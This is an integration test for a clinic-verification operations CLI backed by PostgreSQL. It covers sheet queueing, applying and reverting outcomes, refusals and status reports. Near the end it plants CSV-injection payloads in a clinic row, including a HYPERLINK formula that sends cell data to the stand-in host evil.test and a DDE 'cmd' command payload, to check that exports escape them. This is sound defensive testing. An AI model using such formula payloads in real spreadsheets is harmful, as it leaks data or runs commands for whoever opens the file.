/**
 * The ops CLI against a real PostgreSQL (DATABASE_URL: a throwaway copy of
 * the seeded database; see supabase/tests/70_ops_cli.sh). Prints one
 * 'ok - ' line per check and exits 1 at the first failure.
 */
import {
  cpSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { isDeepStrictEqual } from 'node:util'
import postgres from 'postgres'
import {
  runApply,
  runQueue,
  runRevert,
  runStatus,
  type Io,
} from '../../ops/lib/cli/cli.ts'
import { parse } from 'csv-parse/sync'
import {
  formulaStart,
  csvObjects,
  parseCsv,
  stringifyCsv,
} from '../../ops/lib/core/csv.ts'
import { sheetColumns } from '../../ops/lib/sheets-out/queue.ts'
import { NO_ANSWER_RETRY_MS } from '../../ops/lib/apply/plan.ts'
import { localTime } from '../../ops/lib/core/local-time.ts'

const url = process.env.DATABASE_URL
if (!url) throw new Error('DATABASE_URL is not set')
const sql = postgres(url, { max: 1, onnotice: () => {} })
const dir = mkdtempSync(path.join(tmpdir(), 'ops-db-'))
const NOW = new Date()
const env = { DATABASE_URL: url }

function ok(cond: unknown, what: string, detail?: unknown): void {
  if (!cond) {
    throw new Error(
      `not ok - ${what}${detail === undefined ? '' : `\n${JSON.stringify(detail, null, 2)}`}`,
    )
  }
  console.log(`ok - ${what}`)
}

function io(now = NOW, ask?: (q: string) => Promise<string>) {
  const out: string[] = []
  const err: string[] = []
  const value: Io = {
    out: (l) => out.push(l),
    err: (l) => err.push(l),
    env,
    now: () => now,
    ask,
  }
  return { io: value, out, err }
}

type Cells = Record<string, string>
const readSheet = (file: string): Cells[] =>
  csvObjects(parseCsv(readFileSync(file, 'utf8'))).rows.map((r) => r.cells)
/** The sheet's columns, with the holiday ones the queue wrote (sheetColumns). */
const columnsOf = (rows: Cells[]) =>
  sheetColumns(
    [...new Set(rows.flatMap((r) => Object.keys(r)))]
      .filter((k) => /^holiday_/.test(k))
      .map((k) => k.slice('holiday_'.length))
      .sort(),
  )
/** 'closed' for every holiday the row asks (none far from a holiday). */
const closedOnHolidays = (row: Cells): Cells =>
  Object.fromEntries(
    Object.keys(row)
      .filter((k) => k.startsWith('holiday_'))
      .map((k) => [k, 'closed']),
  )
function writeSheet(name: string, rows: Cells[]): string {
  const file = path.join(dir, name)
  writeFileSync(
    file,
    stringifyCsv([
      columnsOf(rows),
      ...rows.map((r) => columnsOf(rows).map((k) => r[k] ?? '')),
    ]),
  )
  return file
}
async function queue(now: Date, name: string) {
  const out = path.join(dir, name)
  const q = io(now)
  const code = await runQueue(
    ['--from', 'db', '--out', out, '--limit', '100'],
    q.io,
  )
  if (code !== 0) throw new Error(q.err.join('\n'))
  const files = readdirSync(out)
  const pick = (s: string) =>
    readSheet(
      path.join(
        out,
        files.find((f) => f.startsWith(s) && f.endsWith('.csv'))!,
      ),
    )
  return { call: pick('call-sheet'), research: pick('research-sheet') }
}
/** Every clinic row and every event, to prove a refusal changed nothing. */
const state = async () => ({
  clinics: await sql`select * from public.clinics order by id`,
  events: await sql`select * from public.verification_events order by id`,
})
const clinic = async (id: string) =>
  (await sql`select * from public.clinics where id = ${id}`)[0]!

async function main() {
  const start = await state()
  ok(start.events.length === 0, 'the copy starts with no events')

  // Queue: call sheet = clinics with a phone, research sheet = exactly those without.
  const first = await queue(NOW, 'round-1')
  const phones = await sql`select name, phone from public.clinics`
  const names = (rows: readonly { name?: string }[]) =>
    rows.map((r) => r.name).sort()
  ok(
    isDeepStrictEqual(
      names(first.research),
      names(phones.filter((r) => r.phone === null)),
    ),
    'queue --from db: the research sheet holds exactly the clinics without a phone',
  )
  ok(
    isDeepStrictEqual(
      names(first.call),
      names(phones.filter((r) => r.phone !== null)),
    ),
    'queue --from db: the call sheet holds every clinic with a phone',
  )

  const [
    confirmed,
    changed,
    noAnswer,
    wrong,
    closedToday,
    tempClosed,
    permClosed,
    spare,
  ] = first.call
  const week = {
    new_hours_sunday: 'Closed',
    new_hours_monday: '8am-6pm',
    new_hours_tuesday: '8am-6pm',
    new_hours_wednesday: '8am-6pm',
    new_hours_thursday: '8am-6pm',
    new_hours_friday: '8am-6pm',
    new_hours_saturday: '9am-1pm',
  }
  const sheet = writeSheet('round-1.csv', [
    {
      ...confirmed!,
      outcome: 'confirmed',
      confirm: 'phone',
      method: 'call',
      initials: 'AB',
    },
    {
      ...changed!,
      outcome: 'changed',
      new_phone: '(270) 555-0199',
      ...week,
      // The holidays of the next 30 days, asked on the same call.
      ...closedOnHolidays(changed!),
      method: 'call',
      initials: 'AB',
      note: 'Front desk',
    },
    { ...noAnswer!, outcome: 'no_answer', initials: 'AB' },
    { ...wrong!, outcome: 'wrong_number', initials: 'AB' },
    { ...closedToday!, outcome: 'closed_today', initials: 'AB' },
    {
      ...tempClosed!,
      outcome: 'temporarily_closed',
      method: 'website',
      initials: 'AB',
    },
    {
      ...permClosed!,
      outcome: 'permanently_closed',
      method: 'visit',
      initials: 'AB',
    },
  ])

  // Refusals: each leaves the database as it was.
  let r = io()
  ok(
    (await runApply([sheet, '--to', 'db'], r.io)) === 1 &&
      r.err.join().includes('no terminal'),
    'apply without --yes and without a terminal is refused',
  )
  ok(isDeepStrictEqual(await state(), start), '… and changes nothing')
  const bad = writeSheet('bad.csv', [
    {
      ...confirmed!,
      outcome: 'changed',
      new_hours_monday: 'noon-ish',
      method: 'call',
      initials: 'AB',
    },
    {
      ...changed!,
      outcome: 'changed',
      new_phone: '12345',
      method: 'call',
      initials: 'AB',
    },
    {
      ...noAnswer!,
      id: '00000000-0000-5000-8000-000000000000',
      outcome: 'no_answer',
      initials: 'AB',
    },
    {
      ...wrong!,
      fingerprint: 'fp-ffffffffffffffff',
      outcome: 'confirmed',
      confirm: 'phone',
      method: 'call',
      initials: 'AB',
    },
    {
      ...closedToday!,
      outcome: 'confirmed',
      confirm: 'phone',
      method: 'call',
      initials: '',
    },
  ])
  r = io()
  const badCode = await runApply([bad, '--to', 'db', '--yes'], r.io)
  const text = r.err.join('\n')
  ok(
    badCode === 1 && text.includes('5 problem(s)'),
    'a sheet with 5 bad rows is refused whole',
    text,
  )
  for (const [row, what] of [
    [2, 'is not hours the site can read'],
    [3, 'is not a 10-digit phone number'],
    [4, 'no clinic has the id'],
    [5, 'changed since the sheet was written'],
    [6, 'initials ""'],
  ] as const)
    ok(
      text.includes(`row ${row}: `) && text.includes(what),
      `refused: row ${row} ${what}`,
    )
  ok(isDeepStrictEqual(await state(), start), '… and changes nothing')

  // Issue 47: '8-5' was stored as 8 AM - 5 AM (the site said open at 2 AM).
  const shorthand = writeSheet('shorthand.csv', [
    {
      ...confirmed!,
      outcome: 'changed',
      new_hours_monday: '8-5',
      method: 'call',
      initials: 'AB',
    },
  ])
  r = io()
  const shortCode = await runApply([shorthand, '--to', 'db', '--yes'], r.io)
  ok(
    shortCode === 1 &&
      r.err
        .join('\n')
        .includes(
          'row 2: new_hours_monday "8-5": write 8 AM - 5 PM, or 8 PM - 5 AM for overnight',
        ),
    "'8-5' is refused with its likely meaning",
    r.err.join('\n'),
  )
  ok(isDeepStrictEqual(await state(), start), '… and changes nothing')

  // Half-way failure: while the operator reads the diff, someone else
  // changes the second clinic; the transaction has already written the
  // first one when it notices, and rolls everything back.
  r = io(NOW, async () => {
    await sql`update public.clinics set website = 'https://changed.example.org' where id = ${changed!.id!}`
    return 'yes'
  })
  let failed = ''
  await runApply([sheet, '--to', 'db'], r.io).catch(
    (e: Error) => (failed = e.message),
  )
  ok(
    failed.includes('changed in the database while the sheet was reviewed'),
    'an apply that meets a clinic changed mid-way fails',
    failed,
  )
  const after = await state()
  ok(after.events.length === 0, '… no event is stored')
  ok(
    isDeepStrictEqual(
      await clinic(confirmed!.id!),
      start.clinics.find((c) => c.id === confirmed!.id),
    ),
    '… and the first clinic, written before the failure, is as it was',
  )
  await sql`update public.clinics set website = ${changed!.website || null} where id = ${changed!.id!}`

  // The real apply.
  r = io()
  const code = await runApply([sheet, '--to', 'db', '--yes'], r.io)
  ok(code === 0, 'apply --to db --yes', r.err)
  const diff = r.out.join('\n')
  ok(
    diff.includes(`phone: ${changed!.phone} → (270) 555-0199`),
    'the diff shows the phone before → after',
  )
  ok(
    diff.includes('re-confirmed as stored: phone'),
    'the diff shows the re-confirmed field',
  )
  const c1 = await clinic(confirmed!.id!)
  ok(
    c1.phone_verified_at?.toISOString() === NOW.toISOString() &&
      c1.phone_verified_method === 'call' &&
      c1.hours_verified_at === null,
    'confirmed: the phone is confirmed today by call, nothing else',
  )
  const c2 = await clinic(changed!.id!)
  ok(
    c2.phone === '(270) 555-0199' &&
      c2.hours_monday === '8:00 AM - 6:00 PM' &&
      c2.hours_sunday === 'Closed' &&
      c2.hours_verified_method === 'call' &&
      c2.phone_verified_method === 'call',
    'changed: new phone and hours, both confirmed',
    c2,
  )
  const c3 = await clinic(noAnswer!.id!)
  ok(
    c3.next_check_after?.getTime() === NOW.getTime() + 2 * 3600e3,
    'no_answer: next check in 2 hours',
  )
  ok(
    (await clinic(wrong!.id!)).phone === null,
    'wrong_number: the phone is gone',
  )
  const c5 = await clinic(closedToday!.id!)
  ok(
    c5.next_check_after > NOW &&
      c5.next_check_after.getTime() - NOW.getTime() <= 24 * 3600e3,
    'closed_today: next check at the start of the next day',
  )
  ok(
    (await clinic(tempClosed!.id!)).status === 'temporarily_closed',
    'temporarily_closed: status set',
  )
  ok(
    (await clinic(permClosed!.id!)).status === 'permanently_closed',
    'permanently_closed: status set, row kept',
  )
  ok(
    isDeepStrictEqual(
      await clinic(spare!.id!),
      start.clinics.find((c) => c.id === spare!.id),
    ),
    'a clinic not on the sheet is untouched',
  )
  const events =
    await sql`select * from public.verification_events order by created_at, outcome`
  ok(events.length === 7, 'one event per sheet row')
  const e2 = events.find((e) => e.clinic_id === changed!.id)!
  ok(
    e2.outcome === 'changed' &&
      e2.method === 'call' &&
      e2.initials === 'AB' &&
      e2.note === 'Front desk' &&
      isDeepStrictEqual(e2.changes.phone, {
        before: changed!.phone,
        after: '(270) 555-0199',
      }),
    'the event carries outcome, method, initials, note and the changes',
    e2,
  )
  const e1 = events.find((e) => e.clinic_id === confirmed!.id)!
  ok(
    isDeepStrictEqual(e1.confirmed, ['phone']) &&
      isDeepStrictEqual(e1.changes, {}),
    'a confirmation event lists the re-confirmed field',
  )
  const anon = await sql.begin(async (tx) => {
    await tx`set local role anon`
    return tx`select status, phone_verified_at, phone_verified_method from public.clinics where id = ${confirmed!.id!}`
  })
  ok(
    anon[0]?.phone_verified_method === 'call',
    'the public (anon) reads the new confirmed date',
  )

  // The same sheet again: already applied (the record beside the sheet and
  // the database's events say so); a copy without that record is refused.
  const before = await state()
  r = io()
  ok(
    (await runApply([sheet, '--to', 'db', '--yes'], r.io)) === 0 &&
      r.out.length === 1 &&
      r.out[0]!.startsWith('Already applied on ') &&
      r.out[0]!.endsWith(
        ' to the database: round-1.csv has nothing left to do.',
      ),
    "the same sheet again: 'already applied on …'",
    r.out,
  )
  const copy = path.join(dir, 'round-1-copy.csv')
  writeFileSync(copy, readFileSync(sheet))
  r = io()
  ok(
    (await runApply([copy, '--to', 'db', '--yes'], r.io)) === 1 &&
      r.err.filter((l) => l.includes('changed since the sheet was written'))
        .length === 7,
    'a copy of it (no record of its apply) is refused: every clinic changed since it',
  )
  ok(isDeepStrictEqual(await state(), before), '… and neither changes anything')

  // The next queue.
  const next = await queue(NOW, 'round-2')
  const all = [...next.call, ...next.research].map((c) => c.id)
  ok(
    [noAnswer, closedToday, tempClosed, permClosed].every(
      (c) => !all.includes(c!.id),
    ),
    'the next queue skips the rescheduled and the closed clinics',
  )
  ok(
    next.research.some((c) => c.id === wrong!.id),
    'the wrong number went to the research sheet',
  )
  ok(!all.includes(changed!.id), 'a clinic confirmed today is not due')
  // do_not_call lives in clinic_internal (service role only) and keeps a
  // clinic off every sheet.
  const quiet = next.call.find((c) => c.id !== confirmed!.id)!
  await sql`update public.clinic_internal set do_not_call = true, do_not_call_reason = 'Asked us not to call' where clinic_id = ${quiet.id!}`
  const afterQuiet = await queue(NOW, 'round-2b')
  ok(
    ![...afterQuiet.call, ...afterQuiet.research].some(
      (c) => c.id === quiet.id,
    ),
    'a do_not_call clinic is on no sheet',
  )
  await sql`update public.clinic_internal set do_not_call = false, do_not_call_reason = null where clinic_id = ${quiet.id!}`
  const later = await queue(new Date(NOW.getTime() + 3 * 3600e3), 'round-3')
  ok(
    later.call.some((c) => c.id === noAnswer!.id),
    'three hours later the unanswered clinic is due again',
  )

  // --to both: the database and a copy of the data file, from one sheet.
  // The spare clinic is untouched in both, so its fingerprint matches both.
  const root = path.resolve(import.meta.dirname, '../..')
  cpSync(path.join(root, 'supabase/data'), path.join(dir, 'data'), {
    recursive: true,
  })
  const data = path.join(dir, 'data/western-ky-clinics.json')
  const both = writeSheet('both.csv', [
    {
      ...spare!,
      outcome: 'confirmed',
      confirm: 'phone',
      method: 'clinic',
      initials: 'CD',
    },
  ])
  r = io()
  const bothCode = await runApply(
    [
      both,
      '--to',
      'both',
      '--yes',
      '--data',
      data,
      '--emergency-data',
      path.join(dir, 'data/western-ky-emergency-departments.json'),
      '--generated-dir',
      path.join(dir, 'generated'),
      '--seed',
      path.join(dir, 'seed.sql'),
    ],
    r.io,
  )
  ok(
    bothCode === 0 &&
      r.out.some((l) => l.startsWith('Applied 1 check(s) to the database')) &&
      r.out.some((l) => l.startsWith('Applied 1 check(s) to the data file')),
    'apply --to both writes the database and the data file',
    [...r.out, ...r.err],
  )
  ok(
    (await clinic(spare!.id!)).phone_verified_method === 'clinic',
    '… the database has the confirmation',
  )
  const fileRow = (
    JSON.parse(readFileSync(data, 'utf8')) as {
      clinics: Record<string, unknown>[]
    }
  ).clinics.find((c) => c.name === spare!.name)
  ok(
    fileRow?.phone_verified_method === 'clinic' &&
      fileRow.phone_verified_at === NOW.toISOString(),
    '… and so has the data file',
    fileRow,
  )
  ok(
    readFileSync(path.join(dir, 'seed.sql'), 'utf8').includes(`'clinic'`),
    '… and the seed generated from it',
  )

  // Status.
  r = io()
  await runStatus(['--from', 'db', '--json'], r.io)
  const report = JSON.parse(r.out.join('\n'))
  ok(
    report.overall.phone_90d === 3 &&
      report.overall.hours_90d === 1 &&
      report.overall.temporarily_closed === 1 &&
      report.overall.permanently_closed === 1 &&
      report.overall.clinics === start.clinics.length,
    'status --from db counts the round',
    report.overall,
  )
  // The call-backs, with the last call read from the events table.
  r = io()
  await runStatus(['--from', 'db', '--due'], r.io)
  const dueText = r.out.join('\n')
  ok(
    dueText.includes(
      `  call-back  call      ${noAnswer!.name} (${noAnswer!.town}): no answer ${localTime(NOW)}; call back after ${localTime(new Date(NOW.getTime() + NO_ANSWER_RETRY_MS))}`,
    ) &&
      dueText.includes(
        `  call-back  call      ${closedToday!.name} (${closedToday!.town}): closed for the day ${localTime(NOW)}; call back after `,
      ),
    'status --from db --due lists the call-backs, their last call and the time to call back',
    r.out,
  )
  const listed = (id: string) =>
    (report.due_list as { id: string; last_outcome: string | null }[]).find(
      (e) => e.id === id,
    )
  ok(
    listed(noAnswer!.id!)?.last_outcome === 'no_answer' &&
      listed(closedToday!.id!)?.last_outcome === 'closed_today',
    'status --from db --json has them under due_list',
    report.due_list,
  )

  // Facts in the database that a spreadsheet would run: written into the
  // sheet with a leading apostrophe, read back exactly.
  const hostile = {
    name: '=HYPERLINK("http://evil.test/?"&A1,"Call")',
    address: "+cmd|' /C calc'!A0",
    website: '@SUM(1+1)',
    hours_monday: '=1+1',
  }
  const target = next.call.find((c) => c.id !== spare!.id)!
  await sql`update public.clinics set ${sql(hostile)} where id = ${target.id!}`
  const sheets = path.join(dir, 'round-formulas')
  r = io()
  await runQueue(['--from', 'db', '--out', sheets, '--limit', '100'], r.io)
  const sheetText = readFileSync(
    path.join(
      sheets,
      readdirSync(sheets).find(
        (f) => f.startsWith('call-sheet') && f.endsWith('.csv'),
      )!,
    ),
    'utf8',
  )
  const cells = (
    parse(sheetText.slice(1), { relax_column_count: true }) as string[][]
  ).flat()
  ok(
    !cells.some((c) => formulaStart(c) !== null) &&
      Object.values(hostile).every((v) => cells.includes(`'${v}`)),
    'queue --from db: every formula-like fact is written with a leading apostrophe (4 of 4)',
  )
  const back = csvObjects(parseCsv(sheetText)).rows.find(
    (row) => row.cells.id === target.id,
  )?.cells
  ok(
    back?.name === hostile.name &&
      back.address === hostile.address &&
      back.website === hostile.website &&
      back.hours_monday === hostile.hours_monday,
    '… and read back exactly as the database has them',
    back,
  )

  // Issue 47: ops:revert puts back what round 1 changed, as new events.
  const eventsBefore = (
    await sql`select count(*)::int as n from public.verification_events where created_at = ${NOW}`
  )[0]!.n as number
  const revertAt = new Date(NOW.getTime() + 4 * 3600e3)
  r = io(revertAt)
  const revertCode = await runRevert(
    [sheet, '--to', 'db', '--yes', '--by', 'CD'],
    r.io,
  )
  ok(revertCode === 0, 'revert --to db --yes', [...r.out, ...r.err])
  ok(
    r.out
      .join('\n')
      .includes(`phone: (270) 555-0199 → ${changed!.phone} (put back)`),
    'the revert shows what it puts back',
    r.out,
  )
  const reverted = await clinic(changed!.id!)
  ok(
    reverted.phone === changed!.phone &&
      reverted.phone_verified_at === null &&
      (await clinic(permClosed!.id!)).status === 'active',
    'reverted: the phone and the status as before round 1, the phone’s confirmation of round 1 cleared',
    reverted,
  )
  const revertEvents =
    await sql`select * from public.verification_events where created_at = ${revertAt}`
  ok(
    revertEvents.length > 0 &&
      revertEvents.every(
        (e) =>
          String(e.note).startsWith('revert of round-1.csv') &&
          e.initials === 'CD',
      ) &&
      (
        await sql`select count(*)::int as n from public.verification_events where created_at = ${NOW}`
      )[0]!.n === eventsBefore,
    'the revert is new events that say so; round 1’s events are kept',
    revertEvents,
  )
  r = io(new Date(revertAt.getTime() + 60e3))
  ok(
    (await runRevert([sheet, '--to', 'db', '--yes', '--by', 'CD'], r.io)) ===
      0 && r.out.join('\n').includes('was reverted already'),
    'a second revert: reverted already, nothing written',
    r.out,
  )
}

main()
  .then(async () => {
    await sql.end()
    rmSync(dir, { recursive: true, force: true })
  })
  .catch(async (e: unknown) => {
    console.error(e instanceof Error ? e.message : e)
    await sql.end({ timeout: 1 })
    rmSync(dir, { recursive: true, force: true })
    process.exit(1)
  })
